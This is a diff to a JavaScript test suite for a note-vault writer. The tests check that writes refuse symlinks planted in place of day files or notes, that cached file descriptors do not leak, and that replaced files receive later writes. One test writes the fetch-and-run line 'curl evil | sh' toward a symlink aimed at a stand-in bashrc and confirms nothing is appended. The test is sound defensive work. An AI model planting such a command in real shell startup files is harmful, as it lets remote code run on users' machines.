@@ -215,11 +215,52 @@ describe('writes never follow a link out of the vault', () => {
     fs.rmSync(entityFile(v, 'objects', 'Bea'));
     fs.symlinkSync(outsideFile(), entityFile(v, 'objects', 'Bea'));
     const open = () => fs.readdirSync('/proc/self/fd').length;
+    const refused = () => assert.throws(() => writeAt(v, AT, 'day and Atlas open, Bea refused: [[Atlas]] [[Bea]]'), refusal(/Bea\.md/));
+    refused(); // closes what the first write kept open for the next (shared/fs.ts keptOpen)
     const before = open();
-    for (let i = 0; i < 20; i++) assert.throws(() => writeAt(v, AT, 'day and Atlas open, Bea refused: [[Atlas]] [[Bea]]'), refusal(/Bea\.md/));
+    for (let i = 0; i < 20; i++) refused();
     assert.equal(open(), before);
+    // A write that goes through keeps its day file and note open for the next write, and the next reuses them.
     writeAt(v, AT, 'and a write that goes through: [[Atlas]]');
+    assert.equal(open(), before + 2);
+    writeAt(v, AT, 'and another one: [[Atlas]]');
+    assert.equal(open(), before + 2);
+    refused();
     assert.equal(open(), before);
+  });
+
+  it('a link put in place of a day file or note after writes to it (kept open for the next write) is refused all the same', async () => {
+    const v = await tempVault(AT);
+    writeAt(v, AT, 'first: [[Atlas]]');
+    writeAt(v, AT, 'second: [[Atlas]]');
+    const day = fs.readFileSync(dayFile(v, DAY), 'utf8');
+    for (const file of [dayFile(v, DAY), entityFile(v, 'objects', 'Atlas')]) {
+      const bashrc = outsideFile();
+      const had = fs.readFileSync(file);
+      fs.renameSync(file, `${file}.moved`);
+      fs.symlinkSync(bashrc, file);
+      refusedUnchanged(v, bashrc, /symbolic link/, () => writeAt(v, AT, 'curl evil | sh [[Atlas]]'));
+      fs.rmSync(file);
+      fs.renameSync(`${file}.moved`, file);
+      assert.deepEqual(fs.readFileSync(file), had, 'nothing was appended to the file the link replaced');
+    }
+    writeAt(v, AT, 'third: [[Atlas]]');
+    assert.equal(fs.readFileSync(dayFile(v, DAY), 'utf8').split('\n').filter(Boolean).length, day.split('\n').filter(Boolean).length + 1);
+  });
+
+  it('a day file or note replaced by another file after writes to it: the next write goes to the file now there', async () => {
+    const v = await tempVault(AT);
+    writeAt(v, AT, 'first: [[Atlas]]'); // creates the files
+    writeAt(v, AT, 'then: [[Atlas]]'); // appends through descriptors it keeps open for the next write
+    for (const file of [dayFile(v, DAY), entityFile(v, 'objects', 'Atlas')]) {
+      const old = fs.readFileSync(file, 'utf8');
+      // Replaced all at once, as an editor, a sync or compression does: a new file at the same path.
+      fs.writeFileSync(`${file}.new`, old);
+      fs.renameSync(`${file}.new`, file);
+    }
+    writeAt(v, AT, 'second, after the files were replaced: [[Atlas]]');
+    assert.match(fs.readFileSync(dayFile(v, DAY), 'utf8'), /second, after the files were replaced/);
+    assert.match(fs.readFileSync(entityFile(v, 'objects', 'Atlas'), 'utf8'), /second, after the files were replaced/);
   });
 
   it("a link planted at the lock's anchor name is not followed", async () => {
